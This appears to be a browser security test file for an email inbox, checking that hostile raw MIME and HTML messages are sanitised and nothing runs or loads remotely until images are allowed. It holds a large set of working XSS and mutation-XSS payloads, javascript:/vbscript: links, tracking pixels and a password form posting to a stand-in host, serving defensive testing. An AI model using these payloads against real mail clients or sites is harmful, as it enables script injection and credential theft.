// Issue 17: hostile raw MIME through the real endpoint (`POST /api/channels/email/inbound` as
// message/rfc822), then shown in the real inbox thread in Chromium under the demo page's strict
// CSP with Trusted Types: scripts, event handlers, forms, `javascript:` links, CSS expressions and
// remote resources of every kind (images, srcset, backgrounds, @import, fonts, image-set), nested
// multiparts with an attached message, malformed encodings and huge headers. Holds: nothing ran,
// no hostile markup reached any (shadow) DOM, no request left the machine until the agent allowed
// that message's images, and what the endpoint refuses gets a typed error and changes nothing.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { launchChromium } from '../scripts/chromium.mjs';
import { DEMO_INGEST_TOKEN, fingerprint, startSecurityServer } from './helpers.mjs';
import { scanDom } from './dom-scan.mjs';

const REMOTE = 'remote.example';
const XSS = 'window.__xss=1';

/** A raw message: headers, a blank line, the body; CRLF line ends as on the wire. */
function mime(headers, body) {
  return `${[...headers, '', body].join('\r\n')}\r\n`;
}

function headersFor(id, subject, extra = []) {
  return [
    'From: "Mallory, <script>" <mallory@hostile.example>',
    'To: support@confab.example',
    `Subject: ${subject}`,
    `Message-ID: <${id}@hostile.example>`,
    'MIME-Version: 1.0',
    ...extra,
  ];
}

/** Every way an email has tried to run code, post a form or fetch something from elsewhere. */
const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=javascript:${XSS}">
<base href="https://${REMOTE}/">
<link rel="stylesheet" href="https://${REMOTE}/linked.css">
<style>@import url(https://${REMOTE}/imported.css); @import "https://${REMOTE}/imported2.css";
@font-face { font-family: x; src: url(https://${REMOTE}/font.woff); }
body { background: url('https://${REMOTE}/body.png'); }
.set { background-image: image-set("https://${REMOTE}/set.png" 1x); }
p { width: expression(${XSS}); }</style>
<script>${XSS}</script></head>
<body onload="${XSS}">
<p class="set" id="greeting">Hostile hello</p>
<img src="https://${REMOTE}/pixel.gif" onerror="${XSS}" alt="tracker">
<img src=x onerror=${XSS}><img/src="x"/onerror=${XSS}>
<img srcset="https://${REMOTE}/a.png 1x, https://${REMOTE}/b.png 2x" alt="srcset">
<picture><source srcset="https://${REMOTE}/source.png"><img alt="picture"></picture>
<video poster="https://${REMOTE}/poster.png"></video>
<table background="https://${REMOTE}/table.png"><tr><td style="background:url(https://${REMOTE}/cell.png)">cell</td></tr></table>
<div style="width: expression(${XSS}); background-image: url(&quot;https://${REMOTE}/div.png&quot;)">styled</div>
<a href="javascript:${XSS}">js link</a> <a href=" JaVaScRiPt:${XSS}">spaced</a>
<a href="data:text/html,<script>${XSS}</script>">data link</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="https://example.com/ok" ping="https://${REMOTE}/ping">fine link</a>
<form action="https://${REMOTE}/steal" method="post"><input name="password" autofocus onfocus="${XSS}">
<button formaction="javascript:${XSS}">Log in</button></form>
<iframe srcdoc="<script>parent.__xss=1</script>" src="https://${REMOTE}/frame"></iframe>
<object data="https://${REMOTE}/o.swf"></object><embed src="https://${REMOTE}/e.swf">
<svg onload="${XSS}"><script>${XSS}</script><a xlink:href="javascript:${XSS}"><text>svg</text></a>
<image href="https://${REMOTE}/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=${XSS}></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${XSS}>"></noscript>
<details open ontoggle="${XSS}">details</details>
</body></html>`;

const MESSAGES = {
  html: mime(
    headersFor('html', 'Hostile HTML', ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit']),
    HOSTILE_HTML,
  ),
  // multipart/mixed > alternative (text, related (html + cid image)) + an attached message/rfc822
  // whose own HTML carries a script.
  nested: mime(
    headersFor('nested', 'Nested parts', ['Content-Type: multipart/mixed; boundary="outer"']),
    [
      '--outer',
      'Content-Type: multipart/alternative; boundary="alt"',
      '',
      '--alt',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Nested plain text',
      '--alt',
      'Content-Type: multipart/related; boundary="rel"',
      '',
      '--rel',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      `<p>Nested <b>html</b><img src=3D"cid:logo" onerror=3D"${XSS}"><img src=3D"https://${REMOTE}/nested.png"></p>=`,
      '<script>window.__xss=3D1</script>',
      '--rel',
      'Content-Type: image/png',
      'Content-ID: <logo>',
      'Content-Transfer-Encoding: base64',
      '',
      'iVBORw0KGgo=',
      '--rel--',
      '--alt--',
      '--outer',
      'Content-Type: message/rfc822',
      '',
      'From: inner@hostile.example',
      'Subject: Inner',
      'Content-Type: text/html',
      '',
      `<script>${XSS}</script><img src=x onerror=${XSS}>`,
      '--outer--',
    ].join('\r\n'),
  ),
  // Encoded words that do not decode, an unknown charset, broken quoted-printable and base64.
  malformed: mime(
    headersFor(
      'malformed',
      '=?utf-8?B?PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg?= =?x-unknown?Q?=ZZ=3Cb=3E?= =?utf-8?B?!!!?=',
      ['Content-Type: multipart/alternative; boundary="m"'],
    ),
    [
      '--m',
      'Content-Type: text/plain; charset=x-no-such-charset',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'Broken =ZZ quoted =3',
      '--m',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      `${Buffer.from(`<p onmouseover="${XSS}">Base64 html</p><script>${XSS}</script>`).toString('base64')}@@@not-base64`,
      // No closing boundary: the message just ends.
    ].join('\r\n'),
  ),
  // 200 KB of headers and a 100 KB subject: parsed, the subject cut to the protocol's length.
  hugeHeaders: mime(
    headersFor('huge', `Huge ${'<img src=x onerror=window.__xss=1>'.repeat(3000)}`, [
      ...Array.from({ length: 2000 }, (_, i) => `X-Junk-${i}: ${'<script>'.repeat(12)}`),
      'Content-Type: text/plain',
    ]),
    'Huge headers, small body',
  ),
};

async function postRaw(url, body) {
  const response = await fetch(`${url}/api/channels/email/inbound`, {
    method: 'POST',
    headers: { authorization: `Bearer ${DEMO_INGEST_TOKEN}`, 'content-type': 'message/rfc822' },
    body,
  });
  return { status: response.status, json: await response.json() };
}

describe('hostile MIME and HTML email in the inbox (issue 17)', () => {
  let t;
  let browser;
  const planted = {};

  before(async () => {
    t = await startSecurityServer({ httpLimits: { burst: 1000, perSecond: 1000 } });
    for (const [name, raw] of Object.entries(MESSAGES)) {
      const answer = await postRaw(t.url, raw);
      assert.equal(answer.status, 200, `${name}: ${JSON.stringify(answer.json).slice(0, 300)}`);
      planted[name] = answer.json.result.conversationId;
    }
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
    await t?.close();
  });

  test('what the endpoint refuses gets a typed error and changes nothing', async () => {
    const before = fingerprint(t.server);
    for (const [raw, status, code, path] of [
      ['', 400, 'invalid', ''],
      [mime(['To: support@confab.example', 'Subject: no sender'], 'x'), 400, 'invalid', 'from'],
      [mime(['From: not an address', 'Subject: x'], 'x'), 400, 'invalid', 'from'],
      [Buffer.alloc(25 * 1024 * 1024 + 1, 'a'), 413, 'too-large', undefined],
    ]) {
      const answer = await postRaw(t.url, raw);
      assert.equal(answer.status, status, JSON.stringify(answer.json).slice(0, 200));
      assert.equal(answer.json.error.code, code);
      if (path !== undefined) assert.equal(answer.json.error.path, path);
    }
    assert.deepEqual(fingerprint(t.server), before);
    // What was accepted is stored as sent: a subject cut to its limit, a decoded script kept as text.
    const huge = t.server.backend.state.conversations.get(planted.hugeHeaders);
    assert.ok(huge.subject.length <= 1024 && huge.subject.startsWith('Huge <img'));
  });

  test(
    'in the thread nothing runs, no hostile markup is in the DOM, and nothing remote loads until allowed',
    {
      timeout: 300_000,
    },
    async () => {
      const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
      const page = await context.newPage();
      const events = { dialogs: [], errors: [], xss: [], violations: [], remote: [] };
      page.on('dialog', (dialog) => {
        events.dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      page.on('pageerror', (error) => events.errors.push(error.message));
      page.on('console', (message) => {
        const text = message.text();
        if (text.includes('XSS EXECUTED')) events.xss.push(text);
        else if (text.startsWith('CSP VIOLATION')) events.violations.push(text);
      });
      // Every request that would leave the machine is answered here and counted.
      await context.route(
        (url) => !['127.0.0.1', 'localhost'].includes(url.hostname),
        (route) => {
          events.remote.push(route.request().url());
          return route.fulfill({ status: 204, body: '' });
        },
      );
      await page.addInitScript(() => {
        let value;
        Object.defineProperty(window, '__xss', {
          configurable: false,
          get: () => value,
          set: (next) => {
            value = next;
            console.error('XSS EXECUTED');
          },
        });
        document.addEventListener(
          'securitypolicyviolation',
          (event) => console.error(`CSP VIOLATION ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
          true,
        );
      });
      await page.goto(`${t.url}/inbox/`);
      const list = page.getByRole('listbox', { name: 'Conversations' });
      await list.getByRole('option').first().waitFor();
      await page
        .getByRole('navigation', { name: 'Views' })
        .getByRole('button', { name: /^Email \d+$/ })
        .click();
      const clean = async (where) => {
        const scan = await page.evaluate(scanDom);
        assert.deepEqual(events.xss, [], `${where}: a payload ran`);
        assert.equal(scan.xss, null, `${where}: window.__xss was set`);
        assert.deepEqual(events.dialogs, [], `${where}: a dialog opened`);
        assert.deepEqual(scan.findings, [], `${where}: hostile markup in the DOM`);
        assert.deepEqual(events.violations, [], `${where}: CSP or Trusted Types violations`);
        assert.deepEqual(events.errors, [], `${where}: page errors`);
        return scan;
      };
      const thread = page.locator('confab-thread');
      for (const [name, id] of Object.entries(planted)) {
        const row = list.locator(`[role="option"][data-id="${id}"]`);
        await row.click();
        await list.locator(`[role="option"][data-id="${id}"][aria-current="true"]`).waitFor();
        await page.waitForTimeout(400);
        await clean(name);
        assert.deepEqual(events.remote, [], `${name}: a remote request before it was allowed`);
      }
      // The hostile HTML is shown formatted (sanitised), its text there, its images held back.
      await list.locator(`[role="option"][data-id="${planted.html}"]`).click();
      const body = thread.locator('[part~="email-html"]').first();
      await body.getByText('Hostile hello').waitFor();
      await page.waitForTimeout(300);
      await clean('hostile html, formatted');
      assert.deepEqual(events.remote, [], 'nothing remote before Show images');
      await thread.getByRole('button', { name: 'Show images' }).click();
      for (let waited = 0; events.remote.length === 0 && waited < 5000; waited += 50) await page.waitForTimeout(50);
      await page.waitForTimeout(300);
      await clean('hostile html, images allowed');
      const hosts = new Set(events.remote.map((url) => new URL(url).hostname));
      assert.deepEqual([...hosts], [REMOTE], 'once allowed, that message’s images load, from its sender’s host');
      assert.ok(
        events.remote.every((url) => !/linked\.css|steal|frame|\.swf|ping|v\.mp4/.test(url)),
        `only images and styles of the message itself, never a form, frame, plugin or ping: ${events.remote.join(' ')}`,
      );
      console.log(
        `# hostile MIME: ${Object.keys(planted).length} raw messages shown; remote requests before allowing: 0, after: ${events.remote.length} (${[...new Set(events.remote.map((url) => new URL(url).pathname))].join(', ')})`,
      );
      await context.close();
    },
  );
});
